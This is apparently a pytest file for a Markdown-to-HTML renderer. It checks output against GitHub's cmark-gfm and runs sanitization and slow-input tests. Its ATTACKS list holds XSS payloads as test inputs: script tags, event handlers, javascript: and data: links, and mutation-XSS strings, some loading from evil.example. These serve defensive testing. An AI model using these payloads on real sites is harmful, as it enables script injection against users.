"""Markdown becomes the HTML that GitHub would show, and nothing that is unsafe.

The comparison is with cmark-gfm, GitHub's own renderer. Both answers are brought to one
form first: what GitHub's page adds or the sanitizer takes away is no difference.
"""

import re
import time
from urllib.parse import unquote

import cmarkgfm
import pytest
from bs4 import BeautifulSoup, NavigableString
from cmarkgfm.cmark import Options

from plans import document as doc
from plans.markdown.rendering import document_html, markdown_html
from tests import make

pytestmark = pytest.mark.once

# --- What must never come through ---

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    '<b onclick="alert(1)">bold</b>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](http://e.example/x" onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](http://e.example/x.png)",
    "<iframe src='//evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<style>body { display: none }</style>",
    '<p style="position: fixed">over it all</p>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0">',
    "<base href='//evil.example'>",
    '<form action="//evil.example"><input name="x"><button>Go</button></form>',
    '<input type="text" autofocus onfocus="alert(1)">',
    '<input type="a><img src=x onerror=alert(1)>">',
    '<input type="checkbox" formaction="//evil.example">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get='//evil.example' hx-trigger='load'>x</div>",
    '<div id="main" name="x" class="toast">x</div>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '```"onmouseover="alert(1)\nx\n```',
    "- [ ] <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- --><script>alert(1)</script>-->",
    "<video src=x onerror=alert(1)></video><audio src=x>",
]
# fmt: off
SAFE_TAGS = {
    "a", "b", "blockquote", "br", "code", "dd", "del", "details", "div",
    "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "input", "ins", "kbd", "li", "ol", "p", "pre",
    "s", "samp", "section", "span", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "th", "thead", "tr", "ul", "var",
}
SAFE_ATTRIBUTES = {
    "href", "title", "rel", "class", "type", "checked", "disabled", "start", "align",
    "id", "dir", "aria-label",
}
# fmt: on


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_comes_to_nothing(text):
    for around in ("{}", "Words {} and more.", "- {}", "> {}", "# {}"):
        page = BeautifulSoup(markdown_html(around.format(text)), "html5lib").body
        for tag in page.find_all(True):
            assert tag.name in SAFE_TAGS, tag
            assert set(tag.attrs) <= SAFE_ATTRIBUTES, tag
            address = re.sub(r"\s", "", tag.get("href", "")).lower()
            assert not re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", address), tag
            if tag.name == "input":
                assert tag["type"] == "checkbox"
                assert "disabled" in tag.attrs


def test_a_picture_becomes_a_link_and_loads_nothing():
    html = markdown_html("![A map](https://e.example/map.png 'Tides')")
    assert "<img" not in html
    assert BeautifulSoup(html, "html.parser").a["href"] == "https://e.example/map.png"
    assert "A map" in html
    assert "<img" not in markdown_html('<img src="https://e.example/x.png" alt="x">')


def test_a_class_of_ours_cannot_be_borrowed():
    html = markdown_html('<ul class="toasts"><li class="toast">Saved</li></ul>')
    assert "toast" not in html


def test_a_link_leads_out_without_a_trace():
    link = BeautifulSoup(markdown_html("<https://e.example>"), "html.parser").a
    assert link["rel"] == ["nofollow", "noopener", "noreferrer"]


def test_code_shows_what_it_says():
    html = markdown_html("```html\n<script>x</script>\n```")
    assert BeautifulSoup(html, "html.parser").code.get_text() == "<script>x</script>\n"


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5_000 + "deep",
        "- " * 2_000 + "deep",
        "[" * 20_000,
        "*a " * 20_000,
        "`" * 20_000,
        "<" * 20_000,
        "|" * 20_000,
        "![](" * 10_000,
        "a@b.c " * 10_000,
        "www." * 10_000,
    ],
    ids=lambda text: text[:4],
)
def test_a_hostile_text_takes_no_longer_than_a_plan(text):
    started = time.process_time()
    markdown_html(text)
    assert time.process_time() - started < 5


# --- As GitHub shows it ---

PROBES = {
    "nested two spaces": "- a\n  - b\n    - c\n  - d\n- e",
    "nested four spaces": "- a\n    - b\n        - c",
    "numbers with bullets": "1. a\n   - b\n   - c\n2. d",
    "bullets with numbers": "- a\n  1. b\n  2. c",
    "list right after a paragraph": "Words:\n- a\n- b",
    "numbers right after a paragraph": "Words:\n1. a\n2. b",
    "two right after a paragraph": "Words:\n2. a\n3. b",
    "brackets": "1) a\n2) b",
    "start elsewhere": "7. a\n8. b",
    "mixed markers": "- a\n* b\n+ c",
    "loose list": "- a\n\n- b\n\n  more",
    "task list": "- [ ] a\n- [x] b\n- [X] c",
    "nested task list": "- [ ] a\n  - [x] b\n  - plain",
    "numbered task list": "1. [ ] a\n2. [x] b",
    "no task list": "- [] a\n- [y] b\n- [x]c",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "table with alignment": "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
    "table after a paragraph": "Words\n| a | b |\n|---|---|\n| 1 | 2 |",
    "table without edges": "a | b\n--|--\n1 | 2",
    "table with pipes in code": "| a |\n|---|\n| `x\\|y` |",
    "table, short and long rows": "| a | b |\n|---|---|\n| 1 |\n| 1 | 2 | 3 |",
    "table then words": "| a |\n|---|\n| 1 |\nwords",
    "fence": "```python\nx = 1\n```",
    "fence of tildes": "~~~\nx\n~~~",
    "fence in a list": "- a\n\n  ```sh\n  ls\n  ```\n- b",
    "fence right after an entry": "- a\n  ```\n  x\n  ```",
    "unclosed fence": "```\nx\n\n# y",
    "indented code": "a\n\n    x = 1",
    "strikethrough": "~~gone~~ and ~~ not ~~",
    "one tilde": "~gone~",
    "three tildes": "a ~~~not~~~",
    "host without a dot": "curl http://localhost and (http://localhost:5093)",
    "package at a version": "npm install bcrypt@5.1.1 and express@4",
    "addresses of files": "file:///c:/a and ssh://e.example/x.git",
    "bare link": "See https://e.example/a_b?c=d&e=f.",
    "bare www": "See www.e.example/x (really).",
    "bare address": "Write to me@e.example.",
    "file names are no links": "See plan.md, spec.md, app.py and main.rs.",
    "domains are no links": "On e.example or google.com.",
    "angle link": "<https://e.example>",
    "reference link": "[a][b]\n\n[b]: https://e.example 'T'",
    "emphasis": "*a* _b_ **c** __d__ ***e*** a_b_c 2*3*4",
    "hard breaks": "a  \nb\\\nc\nd",
    "headings": "# a\n## b ##\nc\n===\nd\n---",
    "no heading": "#a\n####### b",
    "quote": "> a\nb\n>> c",
    "rule": "a\n\n---\n\n***\n\n___",
    "html block": "<details>\n<summary>S</summary>\n\n**b**\n\n</details>",
    "html block with Markdown": "<div>\n**b**\n</div>",
    "inline html": "a <kbd>Ctrl</kbd> <sub>2</sub> b",
    "html comment": "a\n\n<!-- hint -->\n\nb",
    "inline comment": "a <!-- hint --> b",
    "entities": "&lt; &amp; &copy; &#35; &nosuch;",
    "escapes": "\\* \\# \\[x\\] \\| \\<b>",
    "placeholders": "- **Storage**: [e.g., PostgreSQL or N/A]",
    "angle words": "Less than <200ms and <placeholder>",
    "fields": "**Language**: Python\n**Storage**: N/A",
    "emoji and East Asian": "潮汐 **表**。🌊 **「x」**y",
    "crlf": "- a\r\n- b\r\n\r\nc",
    "tabs": "-\ta\n\t- b",
}

# What is different, and known to be: GitHub's side would be the better one.
KNOWN = {
    # cmark-gfm ticks a box when `[x]` is anywhere in its line.
    "a box and an x": "- [ ] Coverage of [X] %",
    # comrak's bare links end in emphasis, and begin in brackets.
    "a link in emphasis": "_http://x.example_",
    "a link in brackets": "[http://x.example]",
    # No browser goes where cmark-gfm's link leads, to a port that ends in a bracket.
    "a wide bracket": "http://localhost:5093）",
}


def test_a_long_task_list_takes_no_time_that_grows_with_its_square():
    started = time.process_time()
    markdown_html("- [ ] a\n" * 12_000)
    assert time.process_time() - started < 5


def test_what_ends_a_link_is_read_once():
    started = time.process_time()
    markdown_html("www.a.example/b" + "." * 20_000)
    assert time.process_time() - started < 2


def as_github(text: str) -> str:
    options = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES
    return cmarkgfm.github_flavored_markdown_to_html(text, options)


def normal(html: str) -> list[str]:
    """One tag or text a line, without what is no difference to a reader."""
    page = BeautifulSoup(html, "html5lib").body
    for tag in page.find_all(True):
        if tag.name in ("script", "style", "iframe", "title", "textarea"):
            tag.decompose()
    for tag in page.find_all(True):
        if tag.name in ("s", "strike"):
            tag.name = "del"
        if tag.name == "img":  # is a link in our pages
            tag.name = "a"
            tag["href"] = tag.get("src", "")
            tag.append(tag.get("alt") or "image")
        if tag.name == "pre" and "lang" in tag.attrs and tag.code:
            tag.code["class"] = [f"language-{tag['lang']}"]
        if tag.name == "input" and tag.get("type") != "checkbox":
            tag.decompose()
            continue
        kept = {"href", "start", "align", "type", "checked"}
        if tag.name == "code":
            kept.add("class")
        tag.attrs = {k: v for k, v in sorted(tag.attrs.items()) if k in kept}
        if "href" in tag.attrs and re.match(r"(?!https?:|mailto:)\w+:", tag["href"]):
            del tag["href"]
        if (
            tag.name in ("section", "span")
            or tag.name not in SAFE_TAGS
            or (tag.name == "a" and "href" not in tag.attrs)
        ):
            tag.unwrap()
        elif tag.name == "strong" and tag.find_parent("strong"):
            tag.unwrap()  # as cmark-gfm does; it looks the same
    for link in page.find_all("a"):  # to a file of the repository: text in our pages
        target = link.get("href", "")
        if not re.match(r"https?:|mailto:", target, re.IGNORECASE):
            if not re.match(r"#fn", target) and target not in (
                link.get_text(),
                f"./{link.get_text()}",
            ):
                link.append(f" ({target})")
            link.unwrap()
    for comment in page.find_all(string=lambda s: type(s) is not NavigableString):
        comment.extract()
    page.smooth()
    lines = []
    for node in page.descendants:
        if isinstance(node, NavigableString):
            in_pre = node.find_parent("pre")
            text = str(node).rstrip("\n") if in_pre else " ".join(node.split())
            if text:
                lines.append("  " * len(list(node.parents)) + text)
        else:
            attrs = "".join(f" {k}={v!r}" for k, v in node.attrs.items())
            lines.append("  " * len(list(node.parents)) + f"<{node.name}{attrs}>")
    return lines


@pytest.mark.parametrize("name", PROBES)
def test_it_shows_what_github_shows(name):
    assert normal(markdown_html(PROBES[name])) == normal(as_github(PROBES[name]))


@pytest.mark.parametrize("name", KNOWN)
def test_it_is_honest_about_what_it_shows_otherwise(name):
    assert normal(markdown_html(KNOWN[name])) != normal(as_github(KNOWN[name]))


def test_the_built_in_template_looks_as_on_github():
    text = without_known_differences(doc.default_template())
    assert normal(markdown_html(text)) == normal(as_github(text))


def test_every_real_plan_looks_as_on_github():
    different = []
    files = make.corpus_files("corpus", "templates")
    for path in files:
        text = path.read_bytes().decode().removeprefix("\ufeff")
        if text.startswith("---"):
            text = without_front_matter(text)
        text = without_known_differences(text)
        if normal(markdown_html(text)) != normal(as_github(text)):
            different.append(path.name)
    assert different == []


def without_front_matter(text: str) -> str:
    """GitHub shows it as a table above the plan, which cmark-gfm knows nothing of."""
    return re.sub(r"\A---\r?\n.*?\n---\r?\n", "", text, count=1, flags=re.DOTALL)


def without_known_differences(text: str) -> str:
    text = re.sub(r"^(\s*[-*] \[ \].*)\[[xX]\]", r"\1[n]", text, flags=re.MULTILINE)
    return re.sub(r"(https?://[^\s）]+)）", r"\1 ）", text)


# --- Links, footnotes, alerts and direction ---

HEADINGS = {
    "Goals": "goals",
    "1. Goals & Non-Goals": "1-goals--non-goals",
    "`code` in *a* [link](https://e.example)": "code-in-a-link",
    "Größe — Übersicht": "größe--übersicht",
    "✅ Phase 0: Start": "-phase-0-start",
    "功能编号": "功能编号",
    "snake_case and-dash": "snake_case-and-dash",
}


def page_of(html):
    return BeautifulSoup(html, "html5lib").body


@pytest.mark.parametrize("heading", HEADINGS)
def test_a_link_to_a_heading_works_as_on_github(heading):
    slug = HEADINGS[heading]
    page = page_of(document_html(f"[to it](#{slug})\n\n## {heading}\n\n## Goals\n"))
    target = unquote(page.a["href"]).removeprefix("#")
    assert page.find(id=target).name == "h2"


def test_headings_of_one_name_are_numbered_and_no_id_is_there_twice():
    page = page_of(document_html("# A\n# A\n# A-1\n# A\n"))
    ids = [tag["id"].removeprefix("user-content-") for tag in page.find_all("h1")]
    assert ids == ["a", "a-1", "a-1-1", "a-2"]


@pytest.mark.parametrize(
    "target", ["spec.md", "../x/y.md#z", "/a", "#nowhere", "//e.x"]
)
def test_a_link_within_the_repository_is_text_with_its_target(target):
    for html in (document_html, markdown_html):
        page = page_of(html(f"See [the *spec*]({target}), [{target}]({target})."))
        assert page.a is None
        assert page.get_text().strip() == f"See the spec ({target}), {target}."
        assert page.em


def test_footnotes_lead_there_and_back():
    page = page_of(document_html("a[^n] b[^n]\n\n[^n]: The note.\n"))
    links = page.find_all("a")
    assert [page.find(id=link["href"][1:]).name for link in links] == [
        "li", "li", "a", "a"
    ]  # fmt: skip
    assert "The note." in page.section.get_text()


def test_alerts_are_alerts():
    page = page_of(markdown_html("> [!WARNING]\n> Mind the tide.\n"))
    assert page.div["class"] == ["markdown-alert", "markdown-alert-warning"]
    assert [p.get_text() for p in page.find_all("p")] == ["Warning", "Mind the tide."]


def test_text_from_right_to_left_has_its_direction():
    page = page_of(markdown_html("# שלום\n\n- مرحبا\n\n| ا |\n|---|\n| b |\n\nabc"))
    assert all(t["dir"] == "auto" for t in page.find_all(["h1", "li", "td", "p"]))
    assert "dir=" not in markdown_html("# Words\n\n- more")


def test_front_matter_is_shown_as_it_is_written():
    page = page_of(document_html("---\na: *b*\n---\n\n# T\n"))
    assert page.pre.get_text() == "a: *b*\n"
    assert page.find_all(["hr", "h2"]) == []
